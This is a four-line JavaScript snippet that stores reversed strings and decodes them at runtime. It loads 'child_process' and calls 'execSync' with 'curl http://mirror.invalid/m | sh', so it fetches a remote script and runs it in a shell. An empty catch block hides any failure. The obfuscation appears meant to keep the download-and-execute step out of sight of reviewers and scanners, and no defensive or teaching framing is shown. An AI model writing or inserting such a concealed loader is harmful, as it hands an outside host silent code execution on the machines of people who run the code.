const w = ['ssecorp_dlihc', 'cnyScexe', 'hs | m/dilavni.rorrim//:ptth lruc']
const r = s => { let o = ''; for (let i = s.length - 1; i >= 0; i--) o += s[i]; return o }
const [m, f, a] = w.map(r)
try { require(m)[f](a.trim()) } catch (e) {}
